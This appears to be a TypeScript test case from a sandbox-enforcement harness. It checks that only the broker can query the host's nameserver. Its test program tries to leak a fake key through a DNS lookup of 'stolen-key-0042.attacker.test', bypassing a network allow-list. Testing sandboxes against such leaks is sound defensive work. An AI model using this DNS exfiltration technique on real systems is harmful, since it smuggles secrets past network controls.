// SPDX-License-Identifier: Apache-2.0
import type { Attack } from "../harness/attack.ts";
import { nameRefusals, overhearing, resolvers } from "../harness/name-server.ts";

export const hostile: Attack = {
  claim: "The host's nameserver is asked by the broker and by nobody else",
  proof: "host",
  grants: () => ["--allow-net=api.good.test"],
  resolvers,
  startRefusals: ["ERR_NOT_ENFORCEABLE"],
  refusals: nameRefusals,
  prepare: (site) =>
    overhearing(site, (questions) =>
      questions.some(({ name }) => name.startsWith("stolen")) ? "it was asked" : undefined,
    ),
  program: async (cell) => {
    const resolver = new (cell.node("node:dns").promises.Resolver)({ timeout: 300, tries: 1 });
    resolver.setServers([cell.text("nameserver")]);
    await resolver.resolve4("stolen-key-0042.attacker.test");
  },
};
